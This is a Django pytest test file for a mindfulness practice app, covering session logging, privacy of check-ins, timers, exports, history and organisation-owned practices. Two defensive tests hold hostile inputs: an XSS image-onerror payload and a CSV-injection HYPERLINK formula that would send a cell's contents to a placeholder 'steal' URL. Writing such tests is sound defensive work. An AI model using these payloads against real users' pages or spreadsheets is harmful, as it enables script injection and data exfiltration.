"""Practice pages through the role clients: the log endpoint, privacy, history, the timer, the player,
an organisation's own practices, Today and the manifest."""

import csv
import io
import json
import re
import uuid
from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from attend.accounts.tests.factories import UserFactory
from attend.core.models import AuditEvent
from attend.core.tests.pages import error_messages, page
from attend.organisations.models import Role
from attend.organisations.tests.factories import person_in
from attend.practice import content, services
from attend.practice.models import OrganisationPractice, PracticeSession, TimerPreset
from attend.practice.tests.support import record, text
from attend.practice.timing import Stage, TimerSettings

pytestmark = pytest.mark.django_db

LOG_URL = reverse("practice:log")
SECRET_NOTE = "Cried in the sluice room after the family meeting."
# Wednesday 18 March 2026, midday in London.
NOW = datetime(2026, 3, 18, 12, 0, tzinfo=UTC)
SCRIPT = "0:00 Stop where you are.\n0:20 Feel your feet on the floor.\n0:45 Go in."


def payload(**fields) -> dict:
    started = timezone.now() - timedelta(minutes=5)
    return {
        "client_id": str(uuid.uuid4()),
        "kind": "guided",
        "practice_key": "breathing-space",
        "title": "Three-step breathing space",
        "started_at": started.isoformat().replace("+00:00", "Z"),
        "planned_seconds": 180,
        "actual_seconds": 180,
        "ended": True,
        "completed": True,
        **fields,
    }


def post_log(client, body, **headers):
    data = body if isinstance(body, str | bytes) else json.dumps(body)
    return client.post(LOG_URL, data=data, content_type="application/json", **headers)


def plan_of(response) -> dict:
    match = re.search(
        r'<script type="application/json" id="practice-plan">(.*?)</script>', response.content.decode(), re.S
    )
    assert match, "the player page embeds its plan"
    return json.loads(match[1])


def player_url(key) -> str:
    return reverse("practice:player", args=[str(key)])


@pytest.fixture
def leaders_session(leader):
    session = record(leader.user, organisation=leader.organisation, actual=120, completed=False)
    return services.practice_session_check_in(session=session, feeling="calm", note=SECRET_NOTE)


@pytest.fixture
def leaders_preset(leader):
    settings = TimerSettings(stages=(Stage("Sit", 1200, interval_seconds=300), Stage("Walk", 600)))
    return services.timer_preset_save(person=leader.user, name="Lunchtime sit", settings=settings)


def own_practice(organisation, by, title="Before handover", script=SCRIPT) -> OrganisationPractice:
    return services.organisation_practice_save(
        organisation=organisation,
        by=by,
        title=title,
        purpose="A minute to arrive.",
        when="Before handover.",
        length_seconds=60,
        script=script,
    )


@pytest.fixture
def other_facilitator(other_organisation):
    return person_in(other_organisation, role=Role.FACILITATOR, email="fac@elsewhere.test", name="Fen Elsewhere")


@pytest.fixture
def other_facilitator_client(other_facilitator):
    client = Client()
    client.force_login(other_facilitator.user)
    return client


# The log endpoint


def test_logging_a_session_answers_with_its_check_in_url(leader_client, leader):
    body = payload(actual_seconds=150, completed=False)

    response = post_log(leader_client, body)

    assert response.status_code == 200
    assert response.json() == {
        "id": body["client_id"],
        "check_in_url": reverse("practice:check_in", args=[body["client_id"]]),
    }
    session = PracticeSession.objects.get(client_id=body["client_id"])
    assert session.person == leader.user
    assert session.organisation == leader.organisation
    assert (session.actual_seconds, session.ended, session.completed) == (150, True, False)


def test_logging_the_same_session_twice_keeps_one_row(leader_client):
    body = payload()

    first = post_log(leader_client, body)
    second = post_log(leader_client, body)

    assert first.status_code == second.status_code == 200
    assert first.json() == second.json()
    assert PracticeSession.objects.count() == 1


def test_an_older_report_after_the_end_does_not_reopen_the_session(leader_client):
    ended = payload(actual_seconds=100, completed=False)
    post_log(leader_client, ended)

    response = post_log(leader_client, {**ended, "ended": False, "actual_seconds": None})

    assert response.status_code == 200
    session = PracticeSession.objects.get()
    assert (session.ended, session.actual_seconds) == (True, 100)


@pytest.mark.parametrize("body", ["{not json", b"\xff\xfe", ""])
def test_a_log_that_is_not_json_answers_422(leader_client, body):
    response = post_log(leader_client, body)

    assert response.status_code == 422
    assert response.json() == {"errors": {"__all__": ["Send one JSON object of 4 KB or less"]}}
    assert not PracticeSession.objects.exists()


@pytest.mark.parametrize("body", [[], [{"ended": True}], "a string", 5, None])
def test_a_log_that_is_not_one_object_answers_422(leader_client, body):
    response = post_log(leader_client, json.dumps(body))

    assert response.status_code == 422
    assert response.json()["errors"]["__all__"] == ["Send one JSON object of 4 KB or less"]


def test_a_log_over_4_kb_answers_422_even_when_it_is_otherwise_fine(leader_client):
    small = payload(padding="")
    near = len(json.dumps(small))
    at_limit = payload(padding="x" * (4096 - near))
    over = {**at_limit, "padding": at_limit["padding"] + "x"}
    assert len(json.dumps(at_limit)) == 4096

    assert post_log(leader_client, over).status_code == 422
    assert not PracticeSession.objects.exists()
    assert post_log(leader_client, at_limit).status_code == 200


def test_a_log_with_invalid_fields_answers_422_with_the_errors(leader_client):
    future = (timezone.now() + timedelta(days=2)).isoformat()

    response = post_log(leader_client, payload(client_id="123", started_at=future, actual_seconds=None))

    assert response.status_code == 422
    errors = response.json()["errors"]
    assert set(errors) == {"client_id", "started_at", "actual_seconds"}
    assert errors["started_at"] == ["A session cannot start in the future"]
    assert errors["actual_seconds"] == ["An ended session needs its length"]
    assert not PracticeSession.objects.exists()


@pytest.mark.parametrize("started_at", [1773835200, True, ["2026-03-18T11:50:00Z"]])
def test_a_started_at_that_is_not_a_string_answers_422(leader_client, started_at):
    response = post_log(leader_client, payload(started_at=started_at))

    assert response.status_code == 422
    assert "started_at" in response.json()["errors"]


def test_a_session_title_is_shown_as_text_not_markup(leader_client):
    post_log(leader_client, payload(title='<img src=x onerror="alert(1)">'))

    body = leader_client.get(reverse("practice:history")).content.decode()

    assert "<img src=x" not in body
    assert "&lt;img src=x" in body


def test_the_log_answers_401_when_signed_out_so_the_browser_keeps_the_session(client):
    response = post_log(client, payload())

    assert response.status_code == 401
    assert response.json()["errors"]["__all__"] == ["Sign in again to log this practice"]
    assert not PracticeSession.objects.exists()


def test_the_log_needs_a_csrf_token(leader):
    client = Client(enforce_csrf_checks=True)
    client.force_login(leader.user)

    refused = post_log(client, payload())

    assert refused.status_code == 403
    assert not PracticeSession.objects.exists()
    # The same request with the token the player page carries is accepted.
    client.get(reverse("practice:index"))
    accepted = post_log(client, payload(), HTTP_X_CSRFTOKEN=client.cookies["csrftoken"].value)
    assert accepted.status_code == 200


def test_the_log_only_accepts_posts(leader_client):
    assert leader_client.get(LOG_URL).status_code == 405


def test_someone_with_no_organisation_can_still_log(db):
    loner = UserFactory()
    client = Client()
    client.force_login(loner)

    assert post_log(client, payload()).status_code == 200
    assert PracticeSession.objects.get().organisation is None


# Privacy: a person's log, check-ins and timers are theirs alone


@pytest.mark.parametrize("role", ["member", "facilitator", "org_admin", "other_leader"])
def test_nobody_else_can_open_or_change_a_check_in(request, leaders_session, role):
    client = request.getfixturevalue(f"{role}_client")
    url = reverse("practice:check_in", args=[leaders_session.client_id])

    assert client.get(url).status_code == 404
    assert client.post(url, {"feeling": "angry", "note": "Overwritten"}).status_code == 404
    assert client.get(reverse("practice:check_in", args=[uuid.uuid4()])).status_code == 404

    fresh = PracticeSession.objects.get(pk=leaders_session.pk)
    assert fresh.check_in == {"feeling": "calm", "note": SECRET_NOTE}


def test_the_person_can_check_in_on_their_own_session(leader_client, leaders_session):
    url = reverse("practice:check_in", args=[leaders_session.client_id])

    page_response = leader_client.get(url)
    response = leader_client.post(url, {"feeling": "tired", "note": "Long day."})

    assert page_response.status_code == 200
    assert SECRET_NOTE in text(page_response)
    assert response.status_code == 302
    assert response.url == f"{reverse('practice:history')}#session-{leaders_session.client_id}"
    assert PracticeSession.objects.get(pk=leaders_session.pk).check_in == {"feeling": "tired", "note": "Long day."}


def test_a_check_in_with_an_unknown_feeling_answers_422(leader_client, leaders_session):
    url = reverse("practice:check_in", args=[leaders_session.client_id])

    response = leader_client.post(url, {"feeling": "smug", "note": ""})

    assert response.status_code == 422
    assert PracticeSession.objects.get(pk=leaders_session.pk).feeling == "calm"


@pytest.mark.parametrize("name", ["practice:preset_edit", "practice:preset_delete", "practice:preset_player"])
@pytest.mark.parametrize("role", ["member", "facilitator", "org_admin", "other_leader"])
def test_nobody_else_can_use_change_or_delete_a_timer(request, leaders_preset, name, role):
    client = request.getfixturevalue(f"{role}_client")
    url = reverse(name, args=[leaders_preset.pk])
    before = TimerPreset.objects.filter(pk=leaders_preset.pk).values().get()

    assert client.get(url).status_code == 404
    if name != "practice:preset_player":
        assert client.post(url, {"name": "Taken", "preparation": "10", "bell": "bowl"}).status_code == 404

    assert TimerPreset.objects.filter(pk=leaders_preset.pk).values().get() == before


def test_someone_elses_timers_are_not_listed(member_client, leaders_preset):
    assert "Lunchtime sit" not in text(member_client.get(reverse("practice:timer")))
    assert "Lunchtime sit" not in text(member_client.get(reverse("practice:index")))


def read_csv(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_csv_export_holds_only_the_persons_own_sessions(leader_client, leader, member, leaders_session):
    record(member.user, organisation=member.organisation, title="Loving-kindness", key="loving-kindness")
    record(leader.user, started_at=timezone.now() - timedelta(days=1), title="STOP", key="stop", planned=60, actual=60)

    response = leader_client.get(reverse("practice:export", args=["csv"]))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="practice-log-')
    rows = read_csv(response)
    assert [row["practice"] for row in rows] == ["Three-step breathing space", "STOP"]
    assert rows[0]["note"] == SECRET_NOTE
    assert rows[0]["feeling"] == "calm"
    assert rows[0]["outcome"] == "Ended when you chose"
    assert (rows[0]["planned_seconds"], rows[0]["practised_seconds"]) == ("180", "120")
    assert rows[1]["outcome"] == "Finished"
    assert "Loving-kindness" not in response.content.decode()


def test_the_json_export_holds_only_the_persons_own_sessions(leader_client, member, leaders_session):
    record(member.user, organisation=member.organisation, title="Loving-kindness", key="loving-kindness")

    response = leader_client.get(reverse("practice:export", args=["json"]))

    assert response.status_code == 200
    data = json.loads(response.content)
    assert (data["format"], data["version"]) == ("attend-practice-log", 1)
    [session] = data["sessions"]
    assert session["practice"] == "Three-step breathing space"
    assert session["note"] == SECRET_NOTE
    assert session["completed"] is False
    assert session["practised_seconds"] == 120


def test_someone_elses_export_does_not_hold_the_persons_sessions(member_client, leaders_session):
    for file_format in ("csv", "json"):
        body = member_client.get(reverse("practice:export", args=[file_format])).content.decode()

        assert SECRET_NOTE not in body
        assert "Three-step breathing space" not in body


def test_a_csv_cell_that_a_spreadsheet_would_run_is_neutralised(leader_client, leader):
    session = record(leader.user, title="=1+1")
    formula = '=HYPERLINK("http://example.test/steal?d="&A1,"Click")'
    services.practice_session_check_in(session=session, feeling="", note=formula)

    [row] = read_csv(leader_client.get(reverse("practice:export", args=["csv"])))

    assert row["note"] == "'" + formula
    assert row["practice"] == "'=1+1"


def test_an_export_is_audited(leader_client, leader, leaders_session):
    leader_client.get(reverse("practice:export", args=["csv"]))
    leader_client.get(reverse("practice:export", args=["json"]))

    events = AuditEvent.objects.filter(action=AuditEvent.Action.DATA_EXPORTED).order_by("created_at")
    assert [(event.actor, event.organisation, event.target_description) for event in events] == [
        (leader.user, leader.organisation, "Practice log (CSV)"),
        (leader.user, leader.organisation, "Practice log (JSON)"),
    ]


def test_an_unknown_export_format_is_not_found(leader_client):
    assert leader_client.get(reverse("practice:export", args=["xlsx"])).status_code == 404
    assert not AuditEvent.objects.filter(action=AuditEvent.Action.DATA_EXPORTED).exists()


# History


def practise_three_days_in_a_row(person):
    for days_ago, minutes in ((0, 3), (1, 10), (2, 10)):
        record(person, started_at=NOW - timedelta(days=days_ago, hours=1), planned=minutes * 60, actual=minutes * 60)


def streak_sentence(response) -> list[str]:
    return re.findall(r"You have practised on \d+ days? in a row\.", text(response))


@time_machine.travel(NOW, tick=False)
def test_history_shows_this_weeks_and_months_minutes(leader_client, leader):
    practise_three_days_in_a_row(leader.user)  # Wednesday, Tuesday and Monday
    record(leader.user, started_at=NOW - timedelta(days=4), planned=600, actual=300, title="STOP")  # Saturday

    response = leader_client.get(reverse("practice:history"))

    assert response.status_code == 200
    rows = {
        row.one("dt").text: row.one("dd").text for row in page(response).select("div", cls="nhsuk-summary-list__row")
    }
    assert rows["This week"] == "23 minutes"
    assert rows["This month"] == "28 minutes, 4 sessions"
    assert "Ended when you chose" in text(response)


def month_links(client, month: str | None = None) -> dict[str, str]:
    """The history page's month paging, as {link text: href}."""
    response = client.get(reverse("practice:history"), {"month": month} if month else {})
    assert response.status_code == 200
    return {link.text: link.get("href") for link in page(response).select("a") if link.text.endswith(" month")}


@time_machine.travel(NOW, tick=False)
def test_history_pages_back_only_as_far_as_the_first_month_with_a_session(
    leader_client, leader, django_assert_max_num_queries
):
    record(leader.user, started_at=datetime(2026, 1, 20, 9, 0, tzinfo=UTC))

    assert month_links(leader_client) == {"Previous month": "?month=2026-02"}
    assert month_links(leader_client, "2026-02") == {"Previous month": "?month=2026-01", "Next month": "?month=2026-03"}
    # The first month with a session is the last one back, and anything before it offers no way further back
    assert month_links(leader_client, "2026-01") == {"Next month": "?month=2026-02"}
    assert month_links(leader_client, "2025-06") == {"Next month": "?month=2025-07"}
    many = [NOW - timedelta(days=n) for n in range(1, 60)]
    for started_at in many:
        record(leader.user, started_at=started_at)
    with django_assert_max_num_queries(13):  # one aggregate for the first session, however many there are
        assert month_links(leader_client, "2026-01") == {"Next month": "?month=2026-02"}


@time_machine.travel(NOW, tick=False)
def test_history_with_no_sessions_offers_no_month_paging(member_client):
    assert month_links(member_client) == {}


@time_machine.travel(NOW, tick=False)
def test_history_never_shows_a_streak_unless_it_is_turned_on(leader_client, leader):
    practise_three_days_in_a_row(leader.user)

    assert streak_sentence(leader_client.get(reverse("practice:history"))) == []

    response = leader_client.post(reverse("practice:streaks"), {"show_streaks": "on"})

    assert response.status_code == 302
    assert response.url == reverse("practice:history")
    assert streak_sentence(leader_client.get(reverse("practice:history"))) == ["You have practised on 3 days in a row."]

    leader_client.post(reverse("practice:streaks"), {})

    assert streak_sentence(leader_client.get(reverse("practice:history"))) == []


@time_machine.travel(NOW, tick=False)
def test_history_lists_only_the_persons_own_sessions(member_client, leaders_session):
    response = member_client.get(reverse("practice:history"))

    assert SECRET_NOTE not in text(response)
    assert "Nothing here yet" in text(response)


# The timer


def timer_post(**fields) -> dict:
    return {
        "csrfmiddlewaretoken": "not-a-real-token",
        "preparation": "10",
        "bell": "bowl",
        "stage1_name": "Sit",
        "stage1_length": "20",
        "stage1_interval": "5",
        "stage2_name": "Walk",
        "stage2_length": "10",
        "stage3_name": "Sit",
        "stage3_length": "20",
        "stage4_name": "",
        **fields,
    }


def test_starting_a_timer_goes_to_a_link_that_holds_its_settings(leader_client):
    response = leader_client.post(reverse("practice:timer"), timer_post(action="start", vibrate="on"))

    assert response.status_code == 302
    url = urlsplit(response.url)
    assert url.path == reverse("practice:timer_start")
    query = parse_qs(url.query)
    assert query == {
        "preparation": ["10"],
        "bell": ["bowl"],
        "vibrate": ["on"],
        "stage1_name": ["Sit"],
        "stage1_length": ["20"],
        "stage1_interval": ["5"],
        "stage2_name": ["Walk"],
        "stage2_length": ["10"],
        "stage3_name": ["Sit"],
        "stage3_length": ["20"],
    }
    assert "csrfmiddlewaretoken" not in response.url
    assert "action" not in query


def test_the_timer_link_opens_the_player_with_the_plan(leader_client):
    start = leader_client.post(reverse("practice:timer"), timer_post(action="start"))

    response = leader_client.get(start.url)

    assert response.status_code == 200
    plan = plan_of(response)
    assert plan["kind"] == "timer"
    assert plan["plannedSeconds"] == 3000
    assert [stage["bells"] for stage in plan["stages"]] == [[0, 300, 600, 900, 1200], [0, 600], [0, 1200]]
    assert not TimerPreset.objects.exists()


def test_an_invalid_timer_answers_422_with_the_error_summary(leader_client):
    response = leader_client.post(reverse("practice:timer"), timer_post(action="start", stage1_length=""))

    assert response.status_code == 422
    assert error_messages(response) == ["Stage 1: Only the last stage can be open-ended"]


def test_an_invalid_timer_link_answers_422(leader_client):
    response = leader_client.get(
        reverse("practice:timer_start"),
        {"preparation": "10", "bell": "bowl", "stage1_length": "10", "stage1_interval": "15"},
    )
    assert response.status_code == 422
    assert error_messages(response) == ["Stage 1: The interval must be shorter than the stage"]


def test_saving_a_timer_makes_a_preset_and_goes_back_to_the_timer(leader_client, leader):
    response = leader_client.post(reverse("practice:timer"), timer_post(action="save", name="Sit, walk, sit"))

    assert response.status_code == 302
    assert response.url == reverse("practice:timer")
    preset = TimerPreset.objects.get()
    assert preset.person == leader.user
    assert preset.name == "Sit, walk, sit"
    assert preset.timer_settings().planned_seconds == 3000
    assert "Sit, walk, sit" in text(leader_client.get(reverse("practice:timer")))


def test_saving_a_timer_without_a_name_answers_422(leader_client):
    response = leader_client.post(reverse("practice:timer"), timer_post(action="save"))

    assert response.status_code == 422
    assert error_messages(response) == ["Enter a name for this timer"]
    assert not TimerPreset.objects.exists()


def test_a_preset_can_be_changed(leader_client, leaders_preset):
    url = reverse("practice:preset_edit", args=[leaders_preset.pk])

    shown = leader_client.get(url)
    response = leader_client.post(
        url, timer_post(name="Longer sit", stage1_length="30", stage2_name="", stage3_name="")
    )

    assert shown.status_code == 200
    assert page(shown).one("input", name="stage1_length").get("value") == "20"
    assert page(shown).one("input", name="stage1_interval").get("value") == "5"
    assert response.status_code == 302
    fresh = TimerPreset.objects.get(pk=leaders_preset.pk)
    assert fresh.name == "Longer sit"
    assert fresh.timer_settings().planned_seconds == 30 * 60 + 10 * 60 + 20 * 60
    assert fresh.timer_settings().stages[0] == Stage("Sit", 1800, interval_seconds=300)


def test_an_invalid_change_to_a_preset_answers_422_and_keeps_it(leader_client, leaders_preset):
    url = reverse("practice:preset_edit", args=[leaders_preset.pk])

    response = leader_client.post(url, timer_post(name=""))

    assert response.status_code == 422
    assert TimerPreset.objects.get(pk=leaders_preset.pk).name == "Lunchtime sit"


def test_a_preset_can_be_deleted(leader_client, leaders_preset):
    url = reverse("practice:preset_delete", args=[leaders_preset.pk])

    assert leader_client.get(url).status_code == 200
    response = leader_client.post(url)

    assert response.status_code == 302
    assert not TimerPreset.objects.exists()


def test_a_preset_opens_in_the_player(leader_client, leaders_preset):
    response = leader_client.get(reverse("practice:preset_player", args=[leaders_preset.pk]))

    assert response.status_code == 200
    plan = plan_of(response)
    assert plan["key"] == f"preset:{leaders_preset.pk}"
    assert plan["title"] == "Lunchtime sit"
    assert plan["plannedSeconds"] == 1800


# The player


@pytest.mark.parametrize("practice", content.built_in_practices(), ids=lambda practice: practice.key)
def test_each_built_in_practice_opens_with_its_plan(member_client, practice):
    response = member_client.get(player_url(practice.key))

    assert response.status_code == 200
    plan = plan_of(response)
    assert plan["kind"] == "guided"
    assert plan["key"] == practice.key
    assert plan["plannedSeconds"] == practice.length_seconds
    [stage] = plan["stages"]
    assert len(stage["cues"]) == len(practice.cues)
    assert stage["cues"][0] == {"at": 0, "text": practice.cues[0].text}


def test_the_breathing_space_plan_is_three_minutes_of_eleven_cues(member_client):
    plan = plan_of(member_client.get(player_url("breathing-space")))

    assert plan["plannedSeconds"] == 180
    assert len(plan["stages"][0]["cues"]) == 11


def test_an_unknown_practice_is_not_found(member_client):
    assert member_client.get(player_url("body-scan-45")).status_code == 404
    assert member_client.get(player_url(uuid.uuid4())).status_code == 404


def test_the_player_needs_sign_in(client):
    response = client.get(player_url("breathing-space"))

    assert response.status_code == 302


def test_an_organisations_own_practice_opens_for_its_people(member_client, organisation, facilitator):
    practice = own_practice(organisation, facilitator.user)

    response = member_client.get(player_url(practice.pk))

    assert response.status_code == 200
    plan = plan_of(response)
    assert plan["title"] == "Before handover"
    assert plan["plannedSeconds"] == 60
    assert [cue["at"] for cue in plan["stages"][0]["cues"]] == [0, 20, 45]


def test_another_organisations_practice_is_not_found(other_leader_client, organisation, facilitator):
    practice = own_practice(organisation, facilitator.user)

    assert other_leader_client.get(player_url(practice.pk)).status_code == 404
    assert "Before handover" not in text(other_leader_client.get(reverse("practice:index")))


def test_the_library_lists_the_built_ins_then_the_organisations_own(member_client, organisation, facilitator):
    own = own_practice(organisation, facilitator.user)

    response = member_client.get(reverse("practice:index"))

    links = [link.get("href") for link in page(response).select("a", cls="nhsuk-card__link")]
    assert links == [*(player_url(practice.key) for practice in content.built_in_practices()), player_url(own.pk)]


# An organisation's own practices


@pytest.mark.parametrize(
    ("role", "status"), [("member", 403), ("leader", 403), ("facilitator", 200), ("org_admin", 200)]
)
def test_only_facilitators_and_admins_manage_practices(request, role, status):
    client = request.getfixturevalue(f"{role}_client")

    assert client.get(reverse("practice:organisation_practices")).status_code == status
    assert client.get(reverse("practice:organisation_practice_new")).status_code == status


def test_fewer_than_five_people_practising_shows_no_figure(facilitator_client, organisation):
    for _ in range(4):
        record(person_in(organisation, role=Role.MEMBER).user, organisation=organisation)

    body = text(facilitator_client.get(reverse("practice:organisation_practices")))

    assert "Fewer than 5 people have practised in the last 30 days" in body
    assert "people practised for" not in body


def test_five_people_practising_shows_the_figure(facilitator_client, organisation):
    for _ in range(5):
        record(person_in(organisation, role=Role.MEMBER).user, organisation=organisation, planned=600, actual=600)

    body = text(facilitator_client.get(reverse("practice:organisation_practices")))

    assert "In the last 30 days, 5 people practised for 50 minutes in all." in body
    assert "Fewer than 5 people" not in body


def practice_form(**fields) -> dict:
    return {
        "title": "Before handover",
        "purpose": "A minute to arrive.",
        "when": "Before handover.",
        "length": "1:00",
        "script": SCRIPT,
        **fields,
    }


def test_a_facilitator_adds_a_practice_everyone_can_use(facilitator_client, member_client, organisation, facilitator):
    response = facilitator_client.post(reverse("practice:organisation_practice_new"), practice_form())

    assert response.status_code == 302
    assert response.url == reverse("practice:organisation_practices")
    practice = OrganisationPractice.objects.get()
    assert (practice.organisation, practice.created_by, practice.length_seconds) == (
        organisation,
        facilitator.user,
        60,
    )
    assert AuditEvent.objects.filter(action=AuditEvent.Action.PRACTICE_ADDED, organisation=organisation).exists()
    assert member_client.get(player_url(practice.pk)).status_code == 200
    assert "Before handover" in text(member_client.get(reverse("practice:index")))


def test_a_script_problem_answers_422_naming_the_line(facilitator_client):
    script = "0:00 Stop where you are.\n0:20 Feel your feet.\n0:55 Go in."

    response = facilitator_client.post(reverse("practice:organisation_practice_new"), practice_form(script=script))

    assert response.status_code == 422
    assert error_messages(response) == [
        "Line 3: cues must start at least 10 seconds before the end, so the closing bell has room"
    ]
    assert not OrganisationPractice.objects.exists()


def test_a_bad_time_in_a_script_names_its_line(facilitator_client):
    script = "0:00 Stop where you are.\n0:75 Feel your feet."

    response = facilitator_client.post(reverse("practice:organisation_practice_new"), practice_form(script=script))

    assert response.status_code == 422
    assert error_messages(response) == ["Line 2: “0:75” is not a time like 2:30"]


def test_a_facilitator_changes_a_practice(facilitator_client, organisation, facilitator):
    practice = own_practice(organisation, facilitator.user)
    url = reverse("practice:organisation_practice_edit", args=[practice.pk])

    shown = facilitator_client.get(url)
    response = facilitator_client.post(url, practice_form(title="Before the shift", length="2:00"))

    assert shown.status_code == 200
    assert page(shown).one("input", name="length").get("value") == "1:00"
    assert response.status_code == 302
    fresh = OrganisationPractice.objects.get(pk=practice.pk)
    assert (fresh.title, fresh.length_seconds) == ("Before the shift", 120)
    assert AuditEvent.objects.filter(action=AuditEvent.Action.PRACTICE_CHANGED, target_description="Before the shift")


def test_archiving_takes_a_practice_out_of_the_library_and_restoring_brings_it_back(
    facilitator_client, member_client, organisation, facilitator
):
    practice = own_practice(organisation, facilitator.user)
    archive_url = reverse("practice:organisation_practice_archive", args=[practice.pk])

    response = facilitator_client.post(archive_url)

    assert response.status_code == 302
    assert OrganisationPractice.objects.get(pk=practice.pk).is_archived
    assert member_client.get(player_url(practice.pk)).status_code == 404
    assert "Before handover" not in text(member_client.get(reverse("practice:index")))
    assert "Before handover (archived)" in text(facilitator_client.get(reverse("practice:organisation_practices")))

    facilitator_client.post(archive_url)

    assert not OrganisationPractice.objects.get(pk=practice.pk).is_archived
    assert member_client.get(player_url(practice.pk)).status_code == 200
    actions = AuditEvent.objects.filter(organisation=organisation).values_list("action", flat=True)
    assert {AuditEvent.Action.PRACTICE_ARCHIVED, AuditEvent.Action.PRACTICE_RESTORED} <= set(actions)


def test_archiving_needs_a_post(facilitator_client, organisation, facilitator):
    practice = own_practice(organisation, facilitator.user)

    response = facilitator_client.get(reverse("practice:organisation_practice_archive", args=[practice.pk]))

    assert response.status_code == 405
    assert not OrganisationPractice.objects.get(pk=practice.pk).is_archived


def test_a_facilitator_elsewhere_cannot_reach_this_organisations_practice(
    other_facilitator_client, organisation, facilitator
):
    practice = own_practice(organisation, facilitator.user)
    edit_url = reverse("practice:organisation_practice_edit", args=[practice.pk])
    archive_url = reverse("practice:organisation_practice_archive", args=[practice.pk])

    assert other_facilitator_client.get(edit_url).status_code == 404
    assert other_facilitator_client.post(edit_url, practice_form(title="Taken over")).status_code == 404
    assert other_facilitator_client.post(archive_url).status_code == 404
    listing = text(other_facilitator_client.get(reverse("practice:organisation_practices")))
    assert "Before handover" not in listing

    fresh = OrganisationPractice.objects.get(pk=practice.pk)
    assert (fresh.title, fresh.is_archived) == ("Before handover", False)


# Today and the manifest


def test_today_offers_the_breathing_space(member_client):
    response = member_client.get("/")

    cards = [
        (card.one("a", cls="nhsuk-card__link").text, card.one("a", cls="nhsuk-card__link").get("href"))
        for card in page(response).select(cls="nhsuk-card")
    ]
    assert ("Take three minutes: breathing space", "/practice/breathing-space/") in cards


@time_machine.travel(NOW, tick=False)
def test_today_mentions_this_weeks_minutes_only_when_there_are_some(member_client, member):
    panel = "You have practised for"
    assert panel not in text(member_client.get("/"))

    record(member.user, started_at=NOW - timedelta(hours=2), planned=600, actual=600)

    assert "You have practised for 10 minutes this week." in text(member_client.get("/"))


def test_the_manifest_makes_attend_installable(client):
    response = client.get(reverse("manifest"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/manifest+json"
    data = response.json()
    assert data["start_url"] == "/"
    assert data["name"] == "Attend"
    assert [icon["sizes"] for icon in data["icons"]] == ["192x192", "512x512"]
    assert all(icon["type"] == "image/png" and icon["src"].endswith(".png") for icon in data["icons"])


def test_the_recent_sessions_are_shown_a_page_at_a_time_keeping_the_month(leader_client, leader):
    """A year of practice is hundreds of sessions: the list pages, and paging keeps the month shown (issue 21)."""
    now = timezone.now()
    sessions = [record(leader.user, started_at=now - timedelta(minutes=minutes)) for minutes in range(25)]
    month = now.strftime("%Y-%m")

    first = leader_client.get(reverse("practice:history"), {"month": month}).content.decode()
    second = leader_client.get(reverse("practice:history"), {"month": month, "page": 2}).content.decode()

    def shown(body):
        return [n for n, session in enumerate(sessions) if f'id="session-{session.client_id}"' in body]

    assert shown(first) == list(range(20))
    assert shown(second) == list(range(20, 25))
    assert f"?month={month}&amp;page=2" in first


def test_a_timers_own_stage_values_are_never_kept_but_its_fields_shapes_are(
    leader_client, leaders_preset, kept_components
):
    """The stage fields keep their shape through the component memo (ADR 0029), never the person's values."""
    url = reverse("practice:preset_edit", args=[leaders_preset.pk])

    shown = leader_client.get(url)
    refused = leader_client.post(url, timer_post(name="Secret sit", stage3_name="Hush", stage3_interval="99"))

    assert shown.status_code == 200 and refused.status_code == 422
    kept_html = " ".join(str(html) for html in kept_components._kept.values())
    assert 'name="stage4_name"' in kept_html and 'name="stage2_name"' in kept_html
    for own in ('value="Walk"', 'value="Hush"', 'value="Sit"', 'value="20"', 'value="99"', "Secret sit"):
        assert own not in kept_html
    assert page(shown).one("input", name="stage2_name").get("value") == "Walk"
